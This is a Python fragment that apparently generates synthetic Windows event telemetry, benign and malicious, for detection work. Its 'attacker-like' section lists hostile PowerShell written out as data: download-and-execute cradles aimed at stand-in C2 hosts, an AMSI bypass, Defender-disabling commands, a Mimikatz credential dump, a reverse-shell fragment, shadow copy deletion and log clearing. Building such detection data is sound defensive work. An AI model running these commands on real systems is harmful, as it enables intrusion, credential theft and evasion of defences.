        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\{U}\\Documents\\Budget {N}.xlsx"',
    ), ("explorer.exe", "OUTLOOK.EXE"), "user", 0.4, "ws"),
    ProcTemplate(r"C:\Program Files\Adobe\Acrobat DC\Acrobat\AcroRd32.exe", (
        '"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\AcroRd32.exe" "C:\\Users\\{U}\\Downloads\\statement_{N}.pdf"',
    ), ("explorer.exe", "OUTLOOK.EXE", "chrome.exe"), "user", 0.3, "ws"),
    ProcTemplate(r"C:\Windows\System32\notepad.exe", (
        '"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\{U}\\Desktop\\notes.txt',
        '"C:\\Windows\\system32\\NOTEPAD.EXE" "C:\\Users\\{U}\\Documents\\Liste de courses été.txt"',
    ), ("explorer.exe",), "user", 0.4, "ws"),
    ProcTemplate(r"C:\Windows\System32\CompatTelRunner.exe", (
        r"C:\Windows\system32\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun",
        r"C:\Windows\system32\compattelrunner.exe -maintenance",
    ), ("svchost-schedule",), "system", 0.4),
    ProcTemplate(r"C:\Windows\System32\wermgr.exe", (r"C:\Windows\system32\wermgr.exe -upload", r'C:\Windows\system32\wermgr.exe -outofproc -pid {P}'), ("svchost.exe",), "system", 0.4),
    ProcTemplate(r"C:\Windows\System32\WerFault.exe", (r"C:\Windows\system32\WerFault.exe -u -p {P} -s {N}",), ("svchost.exe", "chrome.exe", "OUTLOOK.EXE"), "user", 0.3),
    ProcTemplate(r"C:\Windows\System32\consent.exe", (r"consent.exe {P} 310 00000215A1B0C2E0",), ("svchost.exe",), "system", 0.2, "ws"),
    ProcTemplate(r"C:\Windows\System32\gpupdate.exe", ('"C:\\Windows\\system32\\gpupdate.exe" /target:user /force', "gpupdate.exe /force"), ("cmd.exe", "svchost-schedule"), "user", 0.2),
    ProcTemplate(r"C:\Windows\System32\rundll32.exe", (
        r"C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
        r"C:\Windows\System32\rundll32.exe C:\Windows\System32\Windows.StateRepositoryClient.dll,StateRepositoryDoMaintenanceTasks",
        r"C:\Windows\system32\rundll32.exe Startupscan.dll,SusRunTask",
        r'"C:\Windows\system32\rundll32.exe" C:\Windows\system32\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0 IEFrame:0000000000000000',
    ), ("svchost.exe", "svchost-schedule"), "user", 0.8),
    ProcTemplate(r"C:\Windows\System32\ipconfig.exe", ("ipconfig /all", "ipconfig /flushdns"), ("cmd.exe",), "user", 0.1),
    ProcTemplate(r"C:\Windows\System32\inetsrv\w3wp.exe", (PARENTS["w3wp.exe"][1],), ("svchost.exe",), "service", 0.5, "srv"),
    ProcTemplate(r"C:\Windows\System32\cmd.exe", (
        r'C:\Windows\system32\cmd.exe /c "C:\inetpub\scripts\rotate_logs.cmd"',
    ), ("svchost-schedule",), "service", 0.2, "srv"),
    ProcTemplate(r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe", (
        PARENTS["sqlservr.exe"][1],
    ), ("services.exe",), "service", 0.05, "srv"),
    ProcTemplate(r"C:\Program Files\Microsoft SQL Server\150\Tools\Binn\SQLCMD.EXE", (
        '"C:\\Program Files\\Microsoft SQL Server\\150\\Tools\\Binn\\SQLCMD.EXE" -E -S . -Q "EXECUTE dbo.IndexOptimize @Databases = \'USER_DATABASES\'" -b',
        '"C:\\Program Files\\Microsoft SQL Server\\150\\Tools\\Binn\\SQLCMD.EXE" -E -S . -Q "BACKUP DATABASE [Finance] TO DISK = N\'E:\\Backup\\Finance_{N}.bak\' WITH COMPRESSION"',
    ), ("svchost-schedule",), "service", 0.2, "srv"),
    ProcTemplate(r"C:\Windows\System32\mmc.exe", ('"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"', '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\gpmc.msc"'), ("explorer.exe",), "admin", 0.1, "srv"),
    ProcTemplate(r"C:\Windows\System32\dfsrs.exe", (r"C:\Windows\system32\DFSRs.exe",), ("services.exe",), "system", 0.05, "srv"),
)  # fmt: skip

# DLLs loaded (Sysmon 7): path, signed by Microsoft.
DLLS = (
    r"C:\Windows\System32\ntdll.dll", r"C:\Windows\System32\kernel32.dll", r"C:\Windows\System32\KernelBase.dll",
    r"C:\Windows\System32\crypt32.dll", r"C:\Windows\System32\winhttp.dll", r"C:\Windows\System32\amsi.dll",
    r"C:\Windows\System32\bcrypt.dll", r"C:\Windows\System32\wldp.dll", r"C:\Windows\System32\combase.dll",
    r"C:\Windows\System32\ole32.dll", r"C:\Windows\System32\rpcrt4.dll", r"C:\Windows\System32\sechost.dll",
    r"C:\Windows\System32\mswsock.dll", r"C:\Windows\System32\dnsapi.dll", r"C:\Windows\System32\wintrust.dll",
    r"C:\Windows\System32\clbcatq.dll", r"C:\Windows\System32\taskschd.dll", r"C:\Windows\System32\wbem\wbemprox.dll",
    r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System\3a7c6a4f5a39b3f1d3a0a2c4b1e0f9d2\System.ni.dll",
)  # fmt: skip
THIRD_PARTY_DLLS = (
    (r"C:\Program Files\Google\Chrome\Application\126.0.6478.127\chrome.dll", "Google LLC"),
    (r"C:\Program Files (x86)\Microsoft\Edge\Application\126.0.2592.87\msedge.dll", "Microsoft Corporation"),
    (r"C:\Program Files\Microsoft Office\root\vfs\ProgramFilesCommonX64\Microsoft Shared\OFFICE16\mso20win32client.dll", "Microsoft Corporation"),
)  # fmt: skip

FILES = (
    r"C:\Users\{U}\AppData\Local\Temp\{X}.tmp",
    r"C:\Users\{U}\AppData\Local\Temp\chrome_BITS_{N}_{X}\{X}.tmp",
    r"C:\Windows\Prefetch\SVCHOST.EXE-{X}.pf",
    r"C:\Users\{U}\AppData\Local\Microsoft\Windows\INetCache\IE\{X}\favicon[1].ico",
    r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\CacheManager\{X}-0.bin",
    r"C:\Users\{U}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_{X}",
    r"C:\Users\{U}\AppData\Roaming\Microsoft\Windows\Recent\AutomaticDestinations\{X}.automaticDestinations-ms",
    r"C:\Users\{U}\Downloads\Réunion_équipe_{N}.pdf",
    r"C:\Users\{U}\Downloads\report_{N}.xlsx",
    r"C:\Windows\SoftwareDistribution\Download\{X}{X}\windows10.0-kb50{N}-x64.cab",
    r"C:\Windows\Temp\MpCmdRun.log",
    r"C:\Users\{U}\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\Logs\MSTeams_{N}.log",
)  # fmt: skip

# Registry values set (Sysmon 13): target (with {S} a user SID) and details.
REGISTRY_VALUES = (
    (r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\{S}\\Device\HarddiskVolume3\Windows\System32\svchost.exe", "Binary Data"),
    (r"HKU\{S}\Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\Count\HRZR_PGYFRFFVBA", "Binary Data"),
    (r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignatureType", "DWORD (0x00000001)"),
    (r"HKLM\System\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime", "QWORD (0x01daf0c1-0x4c2b1e00)"),
    (r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Auto Update\Results\Detect\LastSuccessTime", "2024-03-19 23:34:13"),
    (r"HKU\{S}\Software\Microsoft\Office\16.0\Common\Roaming\Identities\{X}_ADAL\LastSwitchedTime", "QWORD (0x01daf0c1-0x12ab34cd)"),
    (r"HKU\{S}\Software\Google\Chrome\PreferenceMACs\Default\extensions.settings\{X}", "{X}{X}{X}{X}"),
    (r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters\Interfaces\{G}\DhcpIPAddress", "10.20.{N}.{N}"),
)  # fmt: skip
REGISTRY_KEYS = (
    r"HKU\{S}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx",
    r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Microsoft\Windows\UpdateOrchestrator",
    r"HKU\{S}_Classes\Local Settings\Software\Microsoft\Windows\Shell\BagMRU\{N}",
    r"HKLM\System\CurrentControlSet\Services\EventLog\Application\MsiInstaller",
)  # fmt: skip

DOMAINS = (
    "www.google.com", "login.microsoftonline.com", "settings-win.data.microsoft.com", "ocsp.digicert.com",
    "ctldl.windowsupdate.com", "time.windows.com", "outlook.office365.com", "teams.microsoft.com",
    "statics.teams.cdn.office.net", "edge.microsoft.com", "update.googleapis.com", "clients2.google.com",
    "wdcp.microsoft.com", "definitionupdates.microsoft.com", "v10.events.data.microsoft.com",
    "onedrive.live.com", "graph.microsoft.com", "dc01.corp.example", "wpad.corp.example",
"fs01.corp.example", "e{N}.dscx.akamaiedge.net",
    "www.bing.com", "fonts.gstatic.com", "officeclient.microsoft.com", "api.github.com",
)  # fmt: skip

# Benign PowerShell script blocks (4104).
SCRIPTS = (
    "Get-Service | Where-Object {$_.Status -eq 'Running'} | Select-Object Name, DisplayName",
    "$ErrorActionPreference = 'Stop'\r\n$app = Get-CimInstance -ClassName Win32_Product -Filter \"Name like 'Microsoft Teams%'\"\r\nif ($app) { Write-Output 'Installed'; exit 0 } else { exit 1 }",
    "Import-Module -Name Microsoft.PowerShell.Management\r\nGet-ChildItem -Path 'C:\\Users\\{U}\\Documents' -Filter *.docx | Measure-Object",
    "prompt",
    "$PSVersionTable.PSVersion",
    "{ Set-StrictMode -Version 1; $_.PSMessageDetails }",
    "Get-WinEvent -LogName 'Microsoft-Windows-Windows Defender/Operational' -MaxEvents 50 | Where-Object Id -eq 1116",
    "Resolve-DnsName -Name fs01.corp.example -Type A",
    "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select-Object DisplayName, DisplayVersion, Publisher",
    "Write-Host \"Bonjour, l'équipe ! Sauvegarde terminée à $(Get-Date -Format 'HH:mm')\"",
    "Get-Disk | Where-Object PartitionStyle -eq 'RAW'",
    "Remove-Item -Path \"$env:TEMP\\*\" -Recurse -Force -ErrorAction SilentlyContinue",
)  # fmt: skip

# Services installed (7045): name, image path, type, start, account.
SERVICES = (
    ("Google Chrome Elevation Service (GoogleChromeElevationService)", r'"C:\Program Files\Google\Chrome\Application\126.0.6478.127\elevation_service.exe"', "user mode service", "demand start", "LocalSystem"),
    ("Microsoft Edge Update Service (edgeupdate)", r'"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /svc', "user mode service", "auto start", "LocalSystem"),
    ("Microsoft Defender Antivirus Network Inspection Service", '"' + _DEFENDER + '\\NisSrv.exe"', "user mode service", "demand start", r"NT AUTHORITY\LocalService"),
    ("Mozilla Maintenance Service", r'"C:\Program Files (x86)\Mozilla Maintenance Service\maintenanceservice.exe"', "user mode service", "demand start", "LocalSystem"),
    ("Intel(R) Content Protection HDCP Service", r"C:\Windows\System32\DriverStore\FileRepository\iigd_dch.inf_amd64_{X}\IntelCpHDCPSvc.exe", "user mode service", "demand start", "LocalSystem"),
    ("WinRing0_1_2_0", r"C:\Program Files\OpenHardwareMonitor\OpenHardwareMonitor.sys", "kernel mode driver", "demand start", ""),
    ("Microsoft Monitoring Agent", r'"C:\Program Files\Microsoft Monitoring Agent\Agent\HealthService.exe"', "user mode service", "auto start", "LocalSystem"),
)  # fmt: skip

# --- attacker-like values of the scenarios ---------------------------------------------------

STAGING = (
    r"C:\Users\Public", r"C:\ProgramData", r"C:\Windows\Temp", r"C:\Users\{U}\AppData\Local\Temp",
    r"C:\Users\{U}\AppData\Roaming", r"C:\PerfLogs", r"C:\Users\Public\Libraries",
)  # fmt: skip
DROP_NAMES = (
    "update.exe",
    "svchosts.exe",
    "rtk.exe",
    "OneDriveUpdater.exe",
    "winlogin.exe",
    "a.exe",
    "tmp{X}.exe",
    "msedge_proxy.exe",
)
DLL_NAMES = ("update.dll", "ldr.dat", "{X}.dll", "mscorsvc.dll", "thumbcache.dat", "wininet.ocx")
C2_URLS = (
    "http://198.51.100.{N}/a.txt", "http://203.0.113.{N}:8080/download/payload.bin", "https://cdn-update.{X}.top/x64/u.exe",
    "https://raw.githubusercontent.com/{X}/tools/main/r.ps1", "http://45.137.{N}.{N}/s.hta", "https://{X}.trycloudflare.com/sc.sct",
    "https://paste.ee/r/{X}", "http://files-share.{X}.xyz/invoice.msi",
)  # fmt: skip
C2_DOMAINS = (
    "cdn-update.{X}.top", "{X}.trycloudflare.com", "paste.ee", "raw.githubusercontent.com", "{X}.ngrok-free.app",
    "files-share.{X}.xyz", "transfer.sh", "api.telegram.org",
)  # fmt: skip
DOWNLOAD_CRADLES = (
    "IEX (New-Object Net.WebClient).DownloadString('{URL}')",
    "Invoke-Expression (Invoke-WebRequest -UseBasicParsing -Uri '{URL}').Content",
    "$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('{URL}')",
    "[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('{URL}')).EntryPoint.Invoke($null,$null)",
    "iwr -useb {URL} | iex",
)  # fmt: skip
# PowerShell script blocks an attacker's tooling leaves (4104).
SUSPICIOUS_SCRIPTS = (
    "[Ref].Assembly.GetType('System.Management.Automation.'+'AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true",
    "Add-MpPreference -ExclusionPath 'C:\\Users\\Public' -Force",
    "Invoke-Mimikatz -Command '\"privilege::debug\" \"sekurlsa::logonpasswords\"'",
    "$bytes = [System.Convert]::FromBase64String($enc); $asm = [System.Reflection.Assembly]::Load($bytes); $asm.EntryPoint.Invoke($null, @(,[string[]]@()))",
    "Get-ADComputer -Filter * -Properties OperatingSystem | Export-Csv C:\\Users\\Public\\c.csv -NoTypeInformation",
    "Invoke-ShareFinder -CheckShareAccess | Out-File C:\\ProgramData\\s.txt",
    "New-Object System.Net.Sockets.TCPClient('{IP}',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0}",
    "Get-WmiObject -Class Win32_ShadowCopy | ForEach-Object { $_.Delete() }",
    "Clear-EventLog -LogName Security, System",
)  # fmt: skip
RECON_CMDS = (
    ("whoami.exe", "whoami /all"), ("whoami.exe", "whoami /priv"), ("whoami.exe", "whoami /groups"),
    ("net.exe", 'net group "Domain Admins" /domain'), ("net.exe", "net user /domain"),
    ("net.exe", "net localgroup administrators"), ("nltest.exe", "nltest /domain_trusts /all_trusts"),
    ("nltest.exe", "nltest /dclist:corp.example"), ("systeminfo.exe", "systeminfo"),
    ("tasklist.exe", "tasklist /v"), ("ipconfig.exe", "ipconfig /all"), ("net.exe", "net view \\\\fs01 /all"),
    ("quser.exe", "quser"), ("net.exe", "net accounts /domain"), ("arp.exe", "arp -a"),
)  # fmt: skip
SYSTEM32 = "C:\\Windows\\System32\\"
ODD_SERVICE_PATHS = (
    "%COMSPEC% /c powershell.exe -nop -w hidden -noni -c \"IEX (New-Object Net.WebClient).DownloadString('{URL}')\"",
    r"C:\Windows\Temp\{X}.exe",
    r"\\127.0.0.1\ADMIN$\{X}.exe",
    r"%SystemRoot%\{X}.exe",
    r"cmd.exe /c echo {X} > \\.\pipe\{X}",
    r"C:\Users\Public\Libraries\svc.exe -k netsvcs",
    r"rundll32.exe C:\ProgramData\{X}.dll,Start",
)  # fmt: skip
RUN_KEY_NAMES = (
    "Updater",
    "OneDriveSync",
    "WindowsDefenderUpdate",
    "ChromeHelper",
    "SecurityHealthCheck",
)
